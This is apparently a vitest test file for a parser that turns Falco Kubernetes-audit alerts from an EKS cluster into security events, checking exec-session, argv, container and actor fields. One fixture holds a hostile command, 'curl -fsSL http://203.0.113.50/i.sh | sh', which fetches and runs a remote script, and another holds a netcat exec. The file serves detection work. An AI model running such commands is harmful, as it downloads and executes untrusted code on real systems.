import { describe, expect, it } from "vitest";
import { falco } from "../../src/sources/falco.js";
import { loadFieldFixture } from "./field-fixtures.js";
import { context } from "./fixtures.js";

const ctx = context({ logGroup: "/aws/eks/prod-eks/cluster", logStream: "falco-k8saudit" });
const lines = (name: string): string[] => loadFieldFixture(name).lines;

describe("falco k8saudit alerts", () => {
  it("reads a stock Attach/Exec alert as an exec session of the first command parameter", () => {
    // Act
    const [event] = falco.parse(lines("falco-k8saudit-eks-exec")[0]!, ctx) ?? [];

    // Assess
    expect(event).toEqual({
      process: { name: "nc", args: [] },
      ancestors: [],
      container: {},
      workload: {
        platform: "eks",
        cluster: "prod-eks",
        namespace: "shop",
        pod: "storefront-6d9f8b7c5-2xkzw",
      },
      inContainer: true,
      viaExecSession: true,
      time: "2026-03-16T03:11:58.000Z",
      source: {
        format: "falco",
        logGroup: "/aws/eks/prod-eks/cluster",
        logStream: "falco-k8saudit",
        eventId: ctx.eventId,
        owner: "123456789012",
      },
      actor: { user: "arn:aws:iam::123456789012:user/dev-mallory" },
    });
  });

  it("reads the whole argv, the container, the audit id and the source IPs when the rule prints %ka.uri", () => {
    const [event] = falco.parse(lines("falco-k8saudit-eks-exec")[1]!, ctx) ?? [];
    expect(event?.process).toEqual({ name: "sh", args: ["-c", "curl -fsSL http://203.0.113.50/i.sh | sh"] });
    expect(event?.container).toEqual({ name: "storefront" });
    expect(event?.sessionKey).toBe("0e6d3c1a-5b2f-4c7e-9a1d-3f5b7d9e1a2c");
    expect(event?.actor?.sourceIPs).toEqual(["203.0.113.77"]);
  });

  it("gives no event for attach, and takes absent fields from the 0.25 output text", () => {
    const [exec, attach] = lines("falco-0.25-k8s-audit-attach-exec");
    const alert = JSON.parse(exec!) as { output_fields: Record<string, unknown> };
    delete alert.output_fields["ka.target.namespace"];
    delete alert.output_fields["ka.target.subresource"];
    const [event] = falco.parse(JSON.stringify(alert), ctx) ?? [];
    expect(event?.workload.namespace).toBe("shop");
    expect(event?.viaExecSession).toBe(true);
    expect(falco.parse(attach!, ctx)).toEqual([]);
  });

  it.each([
    ["a non-pod resource", { "ka.target.resource": "nodes", "ka.target.subresource": "exec" }],
    ["no command at all", { "ka.target.subresource": "exec" }],
    ["a port-forward", { "ka.target.subresource": "portforward", "ka.uri.param[command]": "sh" }],
  ])("gives no event for %s", (_label, fields) => {
    const alert = { rule: "r", source: "k8s_audit", output: "x", output_fields: fields };
    expect(falco.parse(JSON.stringify(alert), ctx)).toEqual([]);
  });
});
